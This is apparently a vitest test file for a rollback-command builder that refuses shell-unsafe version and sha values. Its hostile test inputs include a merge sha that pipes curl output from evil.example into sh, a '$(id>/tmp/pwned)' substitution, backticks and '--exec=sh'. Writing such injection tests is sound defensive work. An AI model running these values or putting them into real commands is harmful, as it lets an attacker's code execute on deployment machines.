import { describe, expect, it } from 'vitest';
import { rollbackOf } from './rollback.js';

const TEMPLATE = 'git revert -m 1 {merge_sha} && deploy --to "{previous_version}"';
const same = (text: string) => text;

describe('the rollback command', () => {
  it('pastes versions, shas, branch-like and image-like values as they are', () => {
    for (const value of ['v3.3.0', '1.0.0-rc.1+build.5', 'release/2026-11', 'registry:5000/studio@sha256:abc', 'v1_2~3^4,5=6%7']) {
      expect(rollbackOf(TEMPLATE, 'studio', { version: 'v2', sha: null, merge_sha: 'abc123', previous_version: value }, 'red', same)).toEqual({ rollback: `git revert -m 1 abc123 && deploy --to "${value}"`, warnings: [] });
    }
  });

  it('never pastes a value a shell would run or split: no command, and a warning that names the value', () => {
    const hostile = { version: 'v2', sha: null, merge_sha: 'abc;curl${IFS}https://evil.example/x|sh', previous_version: 'v1$(id>/tmp/pwned)' };
    const { rollback, warnings } = rollbackOf(TEMPLATE, 'studio', hostile, 'red', same);
    expect(rollback).toBeNull();
    expect(warnings).toEqual([
      'the rollback command needs values a shell would not run or split: {merge_sha} is "abc;curl${IFS}https://evil.example/x|sh", {previous_version} is "v1$(id>/tmp/pwned)"; only letters, digits and . _ / : @ % + = , ~ ^ - are pasted into it (not a leading -), so no command is printed',
    ]);
  });

  it('refuses spaces, quotes, newlines, backticks and a leading dash (an option) too', () => {
    for (const value of ['a b', "it's", 'a"b', 'a\nb', '`id`', '--exec=sh', 'a\\b', 'a#b', '*']) {
      const { rollback, warnings } = rollbackOf('deploy {version}', 'studio', { version: value, sha: null, merge_sha: null }, 'red', same);
      expect(rollback, JSON.stringify(value)).toBeNull();
      expect(warnings[0]).toContain('values a shell would not run or split');
    }
  });

  it('still names what is missing besides what was refused', () => {
    const { warnings } = rollbackOf(TEMPLATE, 'studio', { version: 'v2', sha: null, merge_sha: null, previous_version: 'v1;rm' }, 'red', same);
    expect(warnings).toEqual([expect.stringContaining('{previous_version} is "v1;rm"'), 'the rollback command needs {merge_sha}: pass --merge-sha (or record them with `seal release record`) to print it']);
  });
});
